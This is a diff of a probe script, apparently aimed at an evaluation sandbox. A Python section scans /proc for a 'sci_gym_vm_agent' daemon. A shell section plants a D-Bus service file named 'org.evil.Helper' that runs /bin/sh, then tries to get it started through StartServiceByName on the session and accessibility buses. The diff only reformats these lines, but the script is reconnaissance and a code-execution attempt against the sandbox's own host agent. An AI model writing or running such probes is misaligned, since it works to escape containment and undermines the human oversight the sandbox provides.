@@ -20,7 +20,8 @@ own = os.getpid()
 for pid in filter(str.isdigit, os.listdir("/proc")):
     for name in ("environ", "cmdline", "maps"):
         try:
-            if b"sci_gym_vm_agent" in open(f"/proc/{pid}/{name}", "rb").read(): tell(f"daemon at /proc/{pid}/{name}")
+            path = f"/proc/{pid}/{name}"
+            if b"sci_gym_vm_agent" in open(path, "rb").read(): tell(path)
         except OSError: pass
 for pid in range(1, 400):
     if pid in (1, own, os.getppid()): continue
@@ -55,7 +56,8 @@ printf '[D-BUS Service]\nName=org.evil.Helper\nExec=/bin/sh -c "touch /tmp/activ
 for bus in "$DBUS_SESSION_BUS_ADDRESS" "$AT_SPI_BUS_ADDRESS"; do
   for name in org.evil.Helper org.freedesktop.impl.portal.PermissionStore ca.desrt.dconf; do
     dbus-send --bus="$bus" --print-reply --dest=org.freedesktop.DBus / \
-      org.freedesktop.DBus.StartServiceByName "string:$name" uint32:0 2>&1 | grep -o 'ServiceUnknown\|method return'
+      org.freedesktop.DBus.StartServiceByName "string:$name" uint32:0 2>&1 \
+      | grep -o 'ServiceUnknown\|method return'
   done
 done
 ls /tmp/activated 2>&1
